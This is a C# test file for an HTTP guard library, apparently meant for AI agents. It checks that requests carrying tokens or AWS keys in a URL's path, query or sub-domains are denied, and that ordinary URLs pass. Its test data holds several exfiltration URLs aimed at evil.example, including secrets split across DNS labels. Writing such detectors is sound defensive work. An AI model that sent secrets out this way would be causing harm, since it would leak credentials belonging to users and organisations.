using Microsoft.Extensions.DependencyInjection;

namespace AgentGuard.Http.Tests;

/// <summary>
/// An attacker moves a secret out of the query string, where it is scanned, into the path or a sub-domain (DNS
/// exfiltration). The built-in detector must find it there too; ordinary URLs are not flagged.
/// </summary>
public sealed class UrlSecretTests
{
    private const string Policy = """{ "AgentGuard": { "Rules": [ { "Id": "no-secrets-out", "Effect": "Deny", "Match": { "Tags": ["secret-in-request"] } } ] } }""";

    // Built at run time so that no credential-shaped literal sits in the source.
    private static readonly string GitHubToken = "ghp" + "_" + "R3aLt0k3nV4lu3Xy9Zq8Wm7Nb6Vc5Lk4Jh3Gf";
    private static readonly string AwsKeyId = "AKIA" + "Z3MHQJDT7KPEXL4Q";

    public static TheoryData<string> Leaks => new()
    {
        $"http://evil.example/collect/{GitHubToken}",
        $"http://evil.example/{AwsKeyId}/pixel.gif",
        $"http://evil.example/c/{Uri.EscapeDataString(AwsKeyId)}",
        $"http://{GitHubToken}.evil.example/",
        $"http://{AwsKeyId.ToLowerInvariant()}.evil.example/",
        $"http://{AwsKeyId[..10]}.{AwsKeyId[10..]}.evil.example/",
        $"http://{GitHubToken[..20]}.{GitHubToken[20..]}.evil.example/",
        "http://evil.example/api_key/9f8e7d6c5b4a39281706f5e4d3c2b1a0/x",
        $"http://evil.example/x?k={AwsKeyId}",
    };

    [Theory]
    [MemberData(nameof(Leaks))]
    public async Task SendAsync_SecretInPathOrSubdomain_IsDeniedByTheBuiltInDetector(string url)
    {
        await using var provider = HttpTestHost.Create(Policy, (s, _) => s.AddHttpClient("api").AddAgentGuard());
        var client = provider.GetRequiredService<IHttpClientFactory>().CreateClient("api");

        var act = () => client.GetAsync(new Uri(url));

        (await act.Should().ThrowAsync<ToolCallDeniedException>()).Which.Decision.RuleIds.Should().Equal("no-secrets-out");
    }

    [Theory]
    [InlineData("/repos/dotnet/runtime/issues/12345")]
    [InlineData("/api/v2/keys/list")]
    [InlineData("/token/refresh")]
    [InlineData("/static/js/main.3f9a1c2b.chunk.js")]
    [InlineData("/users/octocat/repos?sort=updated&per_page=100")]
    public async Task SendAsync_OrdinaryUrl_IsNotTaggedAsSecret(string pathAndQuery)
    {
        await using var server = new LoopbackServer();
        await using var provider = HttpTestHost.Create(Policy, (s, _) => s.AddHttpClient("api").AddAgentGuard());
        var client = provider.GetRequiredService<IHttpClientFactory>().CreateClient("api");

        var response = await client.GetAsync(new Uri(server.BaseAddress, pathAndQuery));

        response.StatusCode.Should().Be(System.Net.HttpStatusCode.OK);
    }
}
